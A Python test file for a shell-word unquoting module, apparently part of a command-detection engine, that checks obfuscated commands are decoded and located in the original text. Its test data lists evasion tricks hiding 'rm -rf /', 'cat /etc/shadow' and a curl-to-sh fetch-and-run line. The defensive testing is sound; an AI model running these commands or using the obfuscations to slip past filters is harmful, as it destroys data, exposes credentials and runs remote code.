"""Shell words: quoting hides no command, and findings have positions in the original text."""

from __future__ import annotations

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from pdp.engine.text import shell_words
from pdp.engine.text.locations import Segment, locate
from pdp.engine.text.normalization import normalize
from pdp.engine.text.shell_words import unquote

tricks = st.sampled_from(
    (
        *("r''m", 'r""m', r"\rm", r"r\m", "'rm'", "r'm'", "${IFS}", "$IFS", "$IFS$9", "{rm,-rf,/}"),
        *("$'\\x72m'", "x=rm;", "$x", "${x}", "$(echo rm)", "`echo rm`", "\\\n", "$@", "r$@m"),
        *(
            "'",
            '"',
            "\\",
            "$",
            "`",
            "{",
            "}",
            ",",
            "=",
            " ",
            ";",
            "/",
            "a",
            "é",
            "😀",
            "\n",
            "$(",
            "x='",
        ),
    )
)
command_lines = st.lists(tricks, max_size=30).map("".join)


def segment(text: str) -> Segment:
    return Segment(None, text, text.encode())


def read(text: str) -> str | None:
    variant = unquote(segment(text))
    return None if variant is None else variant.text


class TestWords:
    @pytest.mark.parametrize(
        ("text", "words"),
        [
            ("r''m -rf /", "rm -rf /"),
            ('r""m -rf /', "rm -rf /"),
            ("r'm' -rf /", "rm -rf /"),
            ("'r'm -rf /", "rm -rf /"),
            ("'rm' -rf /", "rm -rf /"),
            ('"rm" "-rf" "/"', "rm -rf /"),
            (r"\rm -rf /", "rm -rf /"),
            (r"sudo \r\m -rf /", "sudo rm -rf /"),
            (r"cat /etc/sha\dow", "cat /etc/shadow"),
            ("rm${IFS}-rf${IFS}/", "rm -rf /"),
            ("rm$IFS$9-rf$IFS/", "rm -rf /"),
            ("{rm,-rf,/}", "rm -rf /"),
            ("{rm,'-rf',\"/\"}; ls", "rm -rf /; ls"),
            ("{curl,-s,http://x.test/a}|sh", "curl -s http://x.test/a|sh"),
            (r"$'\x72m' -rf /", "rm -rf /"),
            (r"$'\162\155' -rf /", "rm -rf /"),
            (r"$'\u0072m' -rf /", "rm -rf /"),
            ("x=rm; $x -rf /", "x=rm; rm -rf /"),
            ("a=r;b='m -rf';$a${b} /", "a=r;b='m -rf';rm -rf /"),
            ("export x=rm && $x -rf /", "export x=rm && rm -rf /"),
            ("$(echo rm) -rf /", "rm -rf /"),
            ("`echo rm` -rf /", "rm -rf /"),
            (r"$(printf '\x72\x6d') -rf /", "rm -rf /"),
            ("rm \\\n-rf /", "rm -rf /"),
            ("r$@m -rf /", "rm -rf /"),
            ("bash -c \"r''m -rf /\"", 'bash -c "rm -rf /"'),
            ("mkdir {a,b}", "mkdir a b"),
        ],
    )
    def test_are_those_that_a_shell_runs(self, text: str, words: str) -> None:
        assert read(text) == words

    @pytest.mark.parametrize(
        "text",
        [
            *("", "plain text", "it's the dog's bowl", "rock 'n' roll", '5\' 11" and 14"'),
            *('{"a": "b", "c": ["d", 1]}', '{"a":"it\'s","b":{"c":2}}', "C:\\Users\\x", "a{2,3}"),
            *("$5 and $10", "price=$5", "total is ${price}", "echo {1..5}", "x == 'a' or y == 'b'"),
            *('<a class="b" id="c">text</a>', "SELECT a FROM t WHERE b = 'c' AND d = ''", "${x}"),
            *('print("hello, world")', "f(x) = x' - y'", "`ls -l` and `pwd`", "a=1, b=2, c=$3"),
        ],
    )
    def test_ordinary_quotes_and_braces_are_not_read(self, text: str) -> None:
        assert read(text) is None

    def test_a_value_that_is_not_set_stays(self) -> None:
        assert read("r''m $HOME/x ${y}") == "rm $HOME/x ${y}"

    def test_a_quoted_text_with_blanks_stays_quoted(self) -> None:
        assert read("e''cho 'a b'") == "echo 'a b'"

    def test_are_read_in_the_decoded_text_too(self) -> None:
        variants = [each.text for each in normalize(segment("r%27%27m%20-rf%20/"))]
        assert variants[-1] == "rm -rf /"


class TestLocations:
    @given(command_lines)
    def test_are_in_order_and_inside_the_text(self, text: str) -> None:
        variant = unquote(segment(text))
        if variant is None:
            return
        start = end = 0
        for index in range(len(variant.text)):
            (where,) = locate(variant, index, index + 1)
            assert where.segment.text == text
            assert start <= where.start < where.end <= len(text)
            assert where.end >= end
            start, end = where.start, where.end

    @given(command_lines, st.data())
    def test_a_span_covers_the_locations_of_its_characters(
        self, text: str, data: st.DataObject
    ) -> None:
        variant = unquote(segment(text))
        if variant is None or not variant.text:
            return
        start = data.draw(st.integers(0, len(variant.text) - 1))
        end = data.draw(st.integers(start + 1, len(variant.text)))
        (where,) = locate(variant, start, end)
        (first,) = locate(variant, start, start + 1)
        (last,) = locate(variant, end - 1, end)
        assert (where.start, where.end) == (first.start, last.end)

    @pytest.mark.parametrize(
        ("text", "span"),
        [("r''m -rf /", (0, 10)), ("x=rm; $x -rf /", (6, 14)), ("a; {rm,-rf,/}", (4, 12))],
    )
    def test_of_a_command_cover_its_quoting(self, text: str, span: tuple[int, int]) -> None:
        variant = unquote(segment(text))
        assert variant is not None
        found = re.search("rm -rf /", variant.text)
        assert found is not None
        (where,) = locate(variant, *found.span())
        assert (where.start, where.end) == span


class TestBounds:
    @given(st.text(max_size=60))
    def test_any_text_can_be_read(self, text: str) -> None:
        unquote(segment("r''m " + text))

    @pytest.mark.parametrize(
        "unit", ["'", '"', "\\", "$", "`", "{", "{a,", "$x", "=", "a=b ", "$(echo a", "'a", "$'"]
    )
    def test_reading_takes_linear_time(self, unit: str) -> None:
        """No search is repeated from each position to the end of the text."""
        text = "x=rm; $x r''m " + unit * 100_000
        variant = unquote(segment(text))
        assert variant is not None
        assert len(variant.text) <= len(text) + shell_words.MAX_EXPANSION

    def test_the_rest_of_a_text_with_many_special_characters_is_copied(self) -> None:
        # Both quotes of a pair are special characters.
        least = "''" * (shell_words.MAX_TOKENS // 2 - 1)
        assert read(f"{least}r''m") == "rm"
        assert read(f"{least}''r''m") == "r''m"

    def test_as_many_variables_as_the_bound_are_set(self) -> None:
        def last(count: int) -> str:
            values = "".join(f"v{index}=a; " for index in range(count - 1))
            return read(f"r''m; {values}x=rm; $x -rf /") or ""

        assert last(shell_words.MAX_VARIABLES).endswith("; rm -rf /")
        assert last(shell_words.MAX_VARIABLES + 1).endswith("; $x -rf /")

    def test_values_add_as_many_characters_as_the_bound(self) -> None:
        value = "a" * 64
        most = shell_words.MAX_EXPANSION // len(value)
        text = f"x={value}; " + "$x " * most
        assert "$" not in (read(text) or "")
        assert (read(text + "$x") or "").endswith(" $x")
